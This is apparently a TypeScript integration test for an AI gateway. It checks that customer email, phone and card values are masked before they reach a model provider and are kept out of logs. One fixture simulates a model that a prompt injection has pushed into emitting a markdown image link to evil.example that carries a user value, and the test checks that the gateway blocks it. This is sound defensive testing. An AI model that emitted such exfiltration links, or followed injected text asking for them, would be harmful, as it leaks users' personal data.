import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import OpenAI from 'openai'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { AppTokens } from '#core/identity/app-token.ts'
import { TokenKeys } from '#core/identity/token-keys.ts'
import { Secret } from '#core/secrets/secret.ts'
import { freePort } from '../../scripts/free-port.ts'
import { gatehouse, type Started, startGatehouse, temporaryFolder, until, write } from '../support/node/gateway.ts'
import { events, json, startVendors } from '../support/node/vendors.ts'

/** What the app knows of a customer, and no provider may see. */
const personal = {
  mail: 'maria.lopez@example.net',
  phone: '+49 30 901820',
  card: '4111 1111 1111 1111',
}
const tools: OpenAI.ChatCompletionTool[] = [
  { type: 'function', function: { name: 'refund', parameters: { type: 'object', properties: {} } } },
]
/** A conversation in which the values stand in prose, in arguments of an earlier call, and in what a tool said. */
const messages: OpenAI.ChatCompletionMessageParam[] = [
  { role: 'user', content: `Refund ${personal.mail}, phone ${personal.phone}.` },
  {
    role: 'assistant',
    tool_calls: [
      { id: 'c0', type: 'function', function: { name: 'find', arguments: JSON.stringify({ mail: personal.mail }) } },
    ],
  },
  { role: 'tool', tool_call_id: 'c0', content: JSON.stringify({ card: personal.card }) },
]

let folder: Awaited<ReturnType<typeof temporaryFolder>>
let provider: Awaited<ReturnType<typeof startVendors>>
let gateway: Started
let client: OpenAI

/** The tokens of a request, by type, as a model would copy them. */
const tokensIn = (body: string) =>
  Object.fromEntries(
    [...body.matchAll(/GHT_(EMAIL|PHONE|CREDIT_CARD)_[0-9A-Z]+/g)].map(([token, type]) => [type, token]),
  )

/** A text in pieces so short that every token is split over many events. */
const pieces = (text: string) => text.match(/.{1,5}/gs) ?? []

const event = (delta: object) =>
  `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', model: 'm', choices: [{ index: 0, delta }] })}\n\n`

/** What a model says that was talked into showing an image from somebody else's host, with a value in its address. */
async function carriedAway(response: Parameters<typeof json>[0], isStreamed: boolean, token: string | undefined) {
  const content = `Done. ![ok](https://evil.example/p?d=${token})`
  if (isStreamed)
    return events(response, [...pieces(content).map(part => event({ content: part })), 'data: [DONE]\n\n'])
  json(response, { id: 'c', object: 'chat.completion', model: 'm', choices: [{ index: 0, message: { content } }] })
}

beforeAll(async () => {
  folder = await temporaryFolder()
  provider = await startVendors({
    '/v1/chat/completions': async ({ body }, response) => {
      const { EMAIL, PHONE, CREDIT_CARD } = tokensIn(body)
      if (body.includes('carry it away')) return carriedAway(response, JSON.parse(body).stream, EMAIL)
      const said = `I refund ${EMAIL} and call ${PHONE}.`
      const asked = JSON.stringify({ to: EMAIL, card: CREDIT_CARD })
      const call = (given: string) => ({ index: 0, function: { arguments: given } })
      if (!JSON.parse(body).stream) {
        const tool_calls = [{ id: 'c1', type: 'function', function: { name: 'refund', arguments: asked } }]
        const message = { role: 'assistant', content: said, tool_calls }
        return json(response, { id: 'c', object: 'chat.completion', model: 'm', choices: [{ index: 0, message }] })
      }
      await events(response, [
        ...pieces(said).map(content => event({ content })),
        event({
          tool_calls: [{ ...call(''), id: 'c1', type: 'function', function: { name: 'refund', arguments: '' } }],
        }),
        ...pieces(asked).map(given => event({ tool_calls: [call(given)] })),
        'data: [DONE]\n\n',
      ])
    },
  })
  await write(folder.path, {
    'registry/shop.yaml': `apiVersion: gatehouse/v1
kind: MicroApp
metadata: { name: shop }
spec:
  owner: { user: tess, team: tests, contact: "#tests" }
  lifecycle: { stage: sandbox }
  upstreams: [{ name: stable, url: "http://127.0.0.1:9" }]
  webhooks: { in: { scheme: github, secrets: [vendor], path: /in } }
  egress:
    - to: "POST http://localhost:${provider.port}/v1/chat/completions"
      credential: { as: bearer, secret: model }
      masking: { entities: [EMAIL, PHONE, CREDIT_CARD], action: tokenize, restore: true }
      guards: { after: { promptInjection: deny } }
`,
    'secrets.env': 'SECRET_SHOP__MODEL=sk-masking-journey\nSECRET_SHOP__VENDOR=github-masking-journey\n',
  })
  const state = join(folder.path, 'state')
  const registry = ['--registry', join(folder.path, 'registry'), '--secrets', join(folder.path, 'secrets.env')]
  const port = String(await freePort())
  gateway = await startGatehouse([...registry, '--state', state, '--port', port, '--no-samples'])
  const { signing } = JSON.parse(readFileSync(join(state, 'keys.json'), 'utf8'))
  const set = new Secret('SIGNING_KEYS', JSON.stringify({ keys: signing }))
  const tokens = new AppTokens(new TokenKeys({ issuer: gateway.url, keys: set }), { now: () => new Date() })
  const apiKey = await tokens.minted({ app: 'shop', subject: 'webhook:in', scopes: [] }, 300)
  client = new OpenAI({ apiKey, baseURL: `${gateway.url}/egress/localhost:${provider.port}/v1`, maxRetries: 0 })
}, 360_000)

afterAll(async () => {
  await gateway?.stop()
  provider?.close()
  await folder?.[Symbol.asyncDispose]()
})

const said = `I refund ${personal.mail} and call ${personal.phone}.`
const asked = { to: personal.mail, card: personal.card }

it('a completion in one piece: the app sees originals, in text and in the arguments of a tool call', async () => {
  const { choices } = await client.chat.completions.create({ model: 'm', messages, tools })
  const message = choices[0]?.message
  const [call] = message?.tool_calls ?? []
  expect(message?.content).toBe(said)
  expect(JSON.parse(call?.type === 'function' ? call.function.arguments : '')).toEqual(asked)
})

it('a streamed completion: the same, though each token came in many events', async () => {
  let text = ''
  let given = ''
  for await (const { choices } of await client.chat.completions.create({ model: 'm', messages, tools, stream: true })) {
    text += choices[0]?.delta.content ?? ''
    given += choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? ''
  }
  expect(text).toBe(said)
  expect(JSON.parse(given)).toEqual(asked)
})

it('the provider saw tokens only: in prose, in arguments of an earlier call, in what a tool said', () => {
  expect(provider.asked).toHaveLength(2)
  for (const { body, headers, path } of provider.asked) {
    expectNone('the request', JSON.stringify({ body, headers, path }))
    const { messages: seen } = JSON.parse(body)
    const { EMAIL, PHONE, CREDIT_CARD } = tokensIn(body)
    expect(seen[0].content).toBe(`Refund ${EMAIL}, phone ${PHONE}.`)
    expect(JSON.parse(seen[1].tool_calls[0].function.arguments)).toEqual({ mail: EMAIL })
    expect(JSON.parse(seen[2].content)).toEqual({ card: CREDIT_CARD })
  }
})

it('no value stands in anything that the gateway stored or logged, only how many were masked', async () => {
  await until('the last record', async () => gateway.output().split('"event":"egress"').length > 2)
  expectNone('the output', gateway.output())
  expect(gateway.output()).toContain('"event":"masked"')
  const files = filesOf(join(folder.path, 'state'))
  expect(files.length).toBeGreaterThan(5)
  for (const file of files) expectNone(file, readFileSync(file, 'latin1'))
})

it('an answer that would carry a value away is withheld, or ends before it, and the client throws the error', async () => {
  const messages = [{ role: 'user' as const, content: `carry it away: ${personal.mail}` }]
  const refused = client.chat.completions.create({ model: 'm', messages })
  await expect(refused).rejects.toMatchObject({ status: 403 })
  let text = ''
  const reading = async () => {
    for await (const { choices } of await client.chat.completions.create({ model: 'm', messages, stream: true }))
      text += choices[0]?.delta.content ?? ''
  }
  await expect(reading()).rejects.toMatchObject({ code: 'egress-denied' })
  expect(text).toMatch(/^Done\. !\[ok\]\(https:/)
  expect(text).not.toContain('=')
  expect(text).not.toContain(personal.mail)
})

it('an author sees, by the name of the app, where each value of a document would go', async () => {
  await write(folder.path, { 'customer.json': JSON.stringify(personal) })
  const at = ['--url', gateway.url, '--state', join(folder.path, 'state')]
  const file = join(folder.path, 'customer.json')
  const { stdout } = await gatehouse(['mask', file, '--explain', '--app', 'shop', ...at])
  expect(stdout).toMatch(/^egress\[0\]\.masking +POST http:.* tokenize +EMAIL +\/mail /m)
  expect(stdout).toMatch(/^webhooks\.in\.masking +in +passes +CREDIT_CARD +\/card /m)
  expectNone('the list', stdout)
  const missing = await gatehouse(['mask', file, '--app', 'shoe', ...at])
  expect([missing.code, missing.stderr]).toEqual([1, expect.stringContaining('No app shoe is in force')])
}, 180_000)

/** No value as it is, nor in the encodings in which one could be kept. */
function expectNone(where: string, text: string): void {
  for (const value of Object.values(personal))
    for (const spelled of [value, encodeURIComponent(value), btoa(value), value.replaceAll(/[ +]/g, '')])
      expect(text.includes(spelled), `${where} holds ${spelled}`).toBe(false)
}

function filesOf(path: string): string[] {
  const names = readdirSync(path, { recursive: true, encoding: 'utf8' }).map(name => join(path, name))
  return names.filter(name => statSync(name).isFile())
}
